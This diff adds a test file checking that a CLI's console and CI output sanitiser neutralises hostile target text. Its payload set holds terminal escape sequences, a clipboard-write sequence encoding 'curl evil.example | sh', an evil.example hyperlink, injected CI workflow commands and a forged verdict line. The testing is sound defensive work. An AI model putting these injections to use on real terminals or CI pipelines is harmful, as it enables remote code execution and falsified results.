@@ -1,0 +1,88 @@
+import { describe, expect, it } from 'vitest';
+import { annotations, stepSummary } from '../../src/cli/ci-output.ts';
+import { formatSummary } from '../../src/cli/console-summary.ts';
+import { consoleSafe, shownText } from '../../src/console-text.ts';
+import { sampleReport } from '../report/sample-report.ts';
+
+/** What a hostile target puts in a body, a header or an error: each must reach the console inert. */
+const PAYLOADS = {
+  clearScreen: '\u001b[2J\u001b[H',
+  clipboard: '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007',
+  hyperlink: '\u001b]8;;https://evil.example\u001b\\click\u001b]8;;\u001b\\',
+  c1Csi: '\u009b31m',
+  fakeVerdict: '\nCONFORMANT: All 51 MUST requirements pass\n',
+  workflowCommand: '\n::error::the target wrote this\n  ::add-mask::x\r::stop-commands::token\n',
+  bidi: 'abc\u202edcba',
+  gzip: '\u001f\u008b\u0008\u0000\u0000\u0000\u0000\u0000\u0000\u0003',
+};
+const HOSTILE = Object.values(PAYLOADS).join(' ');
+
+// eslint-disable-next-line no-control-regex -- the point: no raw control character may remain
+const RAW_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e]/;
+
+/** Lines that would start a workflow command, and lines that claim a verdict. */
+function dangerousLines(output: string): string[] {
+  return output.split('\n').filter((line) => line.trimStart().startsWith('::') || /^\s*CONFORMANT:/.test(line));
+}
+
+function hostileReport() {
+  const { report } = sampleReport({ exchangesPerTest: 1, harnessErrors: true });
+  const failing = report.requirements.find((r) => r.verdict === 'fail' && r.failures.length > 0)!;
+  const failure = failing.failures[0]!;
+  failure.expected = `a Pet ${HOSTILE}`;
+  failure.actual = `${HOSTILE}${'x'.repeat(5000)}`;
+  failure.message = HOSTILE;
+  failure.curl = `curl -sS 'https://t.example/v1/pets' ${HOSTILE}`;
+  if (failure.property) failure.property.counterexample = HOSTILE;
+  report.harnessErrors = [{ code: 'ERR_TARGET_UNREACHABLE', message: `the target said ${HOSTILE}` }];
+  report.verdict.notes = [HOSTILE];
+  return report;
+}
+
+describe('one sanitiser for everything a target can put on the console', () => {
+  it('shownText: one line, controls and escape sequences shown escaped, a leading :: neutralised, long text cut', () => {
+    expect(shownText(PAYLOADS.clearScreen)).toBe('\\x1b[2J\\x1b[H');
+    expect(shownText(PAYLOADS.clipboard)).toBe('\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07');
+    expect(shownText(PAYLOADS.c1Csi)).toBe('\\x9b31m');
+    expect(shownText('::error::x')).toBe('\\x3a:error::x');
+    expect(shownText('  ::warning::x')).toBe('  \\x3a:warning::x');
+    expect(shownText(PAYLOADS.fakeVerdict)).toBe('\\nCONFORMANT: All 51 MUST requirements pass\\n');
+    expect(shownText('a\u202eb\u200bc\ufeffd')).toBe('a\\u202eb\\u200bc\\ufeffd');
+    expect(shownText('y'.repeat(1000), 100)).toBe(`${'y'.repeat(100)}… (900 more characters)`);
+    expect(shownText('plain text: ünïcödé 🐕 stays')).toBe('plain text: ünïcödé 🐕 stays');
+    expect(shownText('\ud800 lone')).toBe('\\ud800 lone');
+  });
+
+  it('consoleSafe: keeps the lines of the suite, escapes the rest, neutralises every line that starts with ::', () => {
+    const out = consoleSafe(`summary\n${HOSTILE}\nend`);
+    expect(out).not.toMatch(RAW_CONTROL);
+    expect(out.split('\n')[0]).toBe('summary');
+    expect(out.split('\n').filter((line) => line.trimStart().startsWith('::'))).toEqual([]);
+  });
+
+  it('the console summary of a run full of hostile text holds no raw control byte, no :: line, no fake verdict line', () => {
+    const out = consoleSafe(formatSummary(hostileReport(), ['conformance.json']));
+    expect(out).not.toMatch(RAW_CONTROL);
+    expect(dangerousLines(out)).toEqual([]);
+    expect(out).toContain('\\x1b]52;c;');
+    expect(out).toContain('more characters)');
+    // Each piece is cut: the 5000 x's do not all reach the terminal.
+    expect(out).not.toContain('x'.repeat(1000));
+  });
+
+  it("the suite's own ::error annotations are built from sanitised text only: one line each, nothing raw", () => {
+    const lines = annotations(hostileReport());
+    expect(lines.length).toBeGreaterThan(0);
+    for (const line of lines) {
+      expect(line).toMatch(/^::error title=[^\n\r:]*::/);
+      expect(line).not.toMatch(RAW_CONTROL);
+      expect(line).not.toMatch(/[\r\n]/);
+    }
+  });
+
+  it('the step summary holds no raw control byte and no :: line', () => {
+    const summary = stepSummary(hostileReport());
+    expect(summary).not.toMatch(RAW_CONTROL);
+    expect(dangerousLines(summary)).toEqual([]);
+  });
+});
